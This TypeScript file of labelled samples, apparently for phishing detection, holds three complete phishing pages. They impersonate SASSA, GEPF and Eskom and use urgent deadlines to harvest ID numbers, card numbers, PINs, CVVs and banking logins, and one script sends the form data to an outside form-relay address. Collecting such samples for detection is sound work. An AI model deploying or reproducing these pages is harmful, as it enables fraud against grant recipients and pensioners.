import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, codes, cookieBar, doc, favicon, gtag, hexOf, pct, rev, wordmark, xorB64 } from '../parts/yh-kit.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsRoute, jsonRoute, lnk, pe, pngRoute, rar5, sevenZip, zip } from '../parts/e-bin.js';


export const entries: Entry[] = [
{
  id: 'yh-sassa-srd-grant-isizulu',
  label: 'phishing',
  kind: 'social-grant-kit',
  url: 'https://srd-sassa-gov.com/faka-isicelo/',
  body: doc('SASSA SRD R370 - Faka isicelo', `
<div class="top">${wordmark('SASSA', '#00843d', { shape: 'circle', h: 34 })}<span>South African Social Security Agency</span></div>
<div class="ban">Isibonelelo se-SRD <b>R370</b> – Izicelo zivuliwe! Thola imali yakho ngokushesha.</div>
<div class="frm">
 <h2>Faka isicelo noma qinisekisa imininingwane yakho</h2>
 <p>Uma isicelo sakho sinqatshiwe noma imali ayikangeni, qinisekisa imininingwane yakho yasebhange ngezansi.</p>
 <form id="s">
  <label>Inombolo kamazisi (ID)</label><input name="id" maxlength="13" inputmode="numeric" required>
  <label>Inombolo yeselula</label><input name="cell" required>
  <label>Ibhange</label><select name="bank"><option>Capitec</option><option>FNB</option><option>Absa</option><option>Standard Bank</option><option>Nedbank</option><option>TymeBank</option><option>Postbank</option></select>
  <label>Inombolo ye-akhawunti</label><input name="acc" inputmode="numeric">
  <label>Inombolo yekhadi</label><input name="card" inputmode="numeric" maxlength="19">
  <label>I-PIN yekhadi</label><input name="pin" type="password" maxlength="5" inputmode="numeric">
  <button>Thumela</button>
 </form>
 <p id="m" class="ok" hidden>Siyabonga! Isicelo sakho samukelwe. Uzothola i-SMS.</p>
</div>
<script>
document.getElementById('s').addEventListener('submit',function(e){e.preventDefault();
 var o={};new FormData(this).forEach(function(v,k){o[k]=v});
 fetch('https://formsubmit.co/ajax/srd.payouts.za@gmail.com',{method:'POST',headers:{'Content-Type':'application/json',Accept:'application/json'},body:JSON.stringify(o)})
 .finally(function(){document.getElementById('s').hidden=true;document.getElementById('m').hidden=false});
});
</script>`, {
    lang: 'zu',
    head: favicon('#00843d'),
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f3f8f4}.top{background:#fff;padding:10px 18px;display:flex;align-items:center;gap:12px;border-bottom:3px solid #00843d}.top span{font-size:13px;color:#00843d}
.ban{background:#00843d;color:#fff;text-align:center;padding:14px;font-size:17px}.frm{max-width:440px;margin:22px auto;background:#fff;padding:22px;border-radius:6px}h2{font-size:18px;color:#00843d}
label{display:block;font-size:13px;margin:10px 0 3px}input,select{width:100%;box-sizing:border-box;padding:10px;border:1px solid #c3d8c9;border-radius:4px}button{margin-top:16px;width:100%;background:#f5a800;border:0;padding:13px;font-size:16px;border-radius:4px}.ok{color:#00843d;font-weight:bold}`,
  }),
},
{
  id: 'yh-gepf-pensioner-verification',
  label: 'phishing',
  kind: 'pension-agency-kit',
  url: 'https://gepf-verify.org/pensioner/life-certificate',
  body: doc('GEPF | Annual Pensioner Verification', `
<div class="h">${wordmark('GEPF', '#7a1f2b', { shape: 'shield', h: 36 })}<div><b>Government Employees Pension Fund</b><br><small>Annual life certification</small></div></div>
<div class="c">
 <p>Dear Pensioner,</p>
 <p>All GEPF pensioners must complete the annual verification (life certificate) before <b>31 March</b>. Pensions of members who do not verify will be <b>suspended from April</b>. You can now verify online instead of visiting a GEPF office.</p>
 <form method="post" action="/pensioner/submit.php">
  <h3>Member details</h3>
  <input name="pension_no" placeholder="Pension number" required>
  <input name="id_no" placeholder="ID number" maxlength="13" required>
  <input name="names" placeholder="Full names">
  <input name="cell" placeholder="Cellphone number">
  <h3>Bank account into which your pension is paid</h3>
  <select name="bank"><option>Absa</option><option>Capitec</option><option>FNB</option><option>Nedbank</option><option>Standard Bank</option><option>Postbank</option></select>
  <input name="account" placeholder="Account number">
  <input name="ib_user" placeholder="Internet / App banking username">
  <input name="ib_pass" type="password" placeholder="Internet / App banking password">
  <label class="chk"><input type="checkbox" required> I confirm that I am alive and the information is correct.</label>
  <button>Verify</button>
 </form>
</div>`, {
    css: `body{margin:0;font-family:Georgia,serif;background:#f7f3ef}.h{display:flex;gap:12px;align-items:center;background:#fff;padding:12px 22px;border-bottom:3px solid #7a1f2b}.c{max-width:520px;margin:24px auto;background:#fff;padding:24px;font-family:Arial,sans-serif}
h3{color:#7a1f2b;font-size:15px;margin:18px 0 6px}input,select{display:block;width:100%;box-sizing:border-box;padding:9px;margin:6px 0;border:1px solid #cbb}.chk{font-size:13px;display:block;margin:12px 0}.chk input{display:inline;width:auto}button{width:100%;background:#7a1f2b;color:#fff;border:0;padding:12px}`,
  }),
},
{
  id: 'yh-eskom-prepaid-kct-token-update',
  label: 'phishing',
  kind: 'utility-token-kit',
  url: 'https://eskom-tokenupdate.co.za.kct-renew.com/meter',
  body: doc('Eskom Prepaid | Meter Token Update (TID Rollover)', `
<div class="bar">${wordmark('Eskom', '#004b8d', { shape: 'circle', h: 34 })}<span>Prepaid Electricity</span></div>
<div class="alert">⚠ Your prepaid meter will stop accepting tokens on <b>24 November</b> unless it is updated with Key Change Tokens (KCT).</div>
<div class="box">
 <h2>Get your Key Change Tokens</h2>
 <p>Enter your 11- or 20-digit meter number. A once-off update fee of <b>R49.00</b> applies; R49.00 of free electricity will be loaded with your next token.</p>
 <label>Meter number</label><input id="mn" maxlength="20" inputmode="numeric" placeholder="e.g. 01234567890">
 <button id="chk">Check meter</button>
 <div id="pay" hidden>
  <p class="ok">Meter <b id="mshow"></b> found – <span>Status: update required</span></p>
  <form method="post" action="/meter/pay">
   <input type="hidden" name="meter" id="mh">
   <label>Card number</label><input name="cardnumber" inputmode="numeric" maxlength="19" required>
   <div class="r"><div><label>Expiry</label><input name="expiry" placeholder="MM/YY"></div><div><label>CVV</label><input name="cvv" maxlength="3"></div></div>
   <label>Cellphone (tokens sent by SMS)</label><input name="cell">
   <button>Pay R49.00 and get KCT</button>
  </form>
 </div>
</div>
<script>document.getElementById('chk').onclick=function(){var m=document.getElementById('mn').value.replace(/\\s/g,'');if(m.length<11){alert('Please enter a valid meter number');return}
document.getElementById('mshow').textContent=m;document.getElementById('mh').value=m;this.disabled=true;this.textContent='Checking…';var b=this;setTimeout(function(){b.hidden=true;document.getElementById('pay').hidden=false},1500)};</script>`, {
    css: `body{margin:0;font-family:Arial,sans-serif;background:#eef3f8}.bar{background:#fff;padding:10px 20px;display:flex;align-items:center;gap:12px;border-bottom:3px solid #004b8d}.bar span{color:#004b8d}
.alert{background:#fff3cd;color:#7a5a00;padding:12px 20px;text-align:center}.box{max-width:460px;margin:22px auto;background:#fff;padding:22px;border-radius:6px}h2{color:#004b8d}
label{display:block;font-size:13px;margin:10px 0 3px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #c7d3e0}.r{display:flex;gap:8px}.r div{flex:1}button{margin-top:14px;width:100%;background:#004b8d;color:#fff;border:0;padding:12px}.ok{color:#0a6b2e}`,
  }),
},
];
